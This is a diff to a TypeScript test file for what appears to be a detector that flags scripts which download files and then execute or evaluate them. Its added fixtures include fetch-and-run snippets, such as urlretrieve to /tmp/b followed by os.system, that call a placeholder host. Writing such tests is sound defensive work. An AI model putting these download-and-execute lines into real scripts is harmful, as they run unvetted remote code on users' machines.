@@ -9,6 +9,9 @@ const STARTED: readonly (readonly [code: string, names: readonly string[]])[] = 
   ['tool.write_bytes(urlopen(url).read())\nsubprocess.run([str(tool), "-q"])', ['tool']],
   ['file(DOWNLOAD "https://a.invalid/b" "${TOOL}")\nexecute_process(COMMAND "${TOOL}")', ['TOOL']],
   ['urllib.request.urlretrieve("https://a.invalid/b", target)\nsubprocess.run(["tar", "-xf", target])', []],
+  ['urlretrieve("https://a.invalid/b", "/tmp/b"); os.system("/tmp/b")', ['"/tmp/b"']],
+  ['with target.open("wb") as f: f.write(urlopen(url).read())\nsubprocess.run([target])', ['target']],
+  ['urlopen(url)\nopen(path, "wb")\nprint("no system path is set")', []],
   ['open(path, "wb").write(b"")\nsubprocess.run([path])', []],
 ];
 
@@ -20,6 +23,8 @@ const EVALUATED: readonly (readonly [code: string, is: boolean])[] = [
   ["eval URI.open('https://a.invalid/b').read", true],
   ['answer = requests.get("https://a.invalid/b")\nexec(open("version.py").read())', false],
   ['include("${RULES}")', false],
+  ['def eval(self): return requests.get("https://a.invalid/b")', false],
+  ['print("run: docker exec web python -c requests.get")', false],
 ];
 
 describe('what a script does with what it fetches', () => {
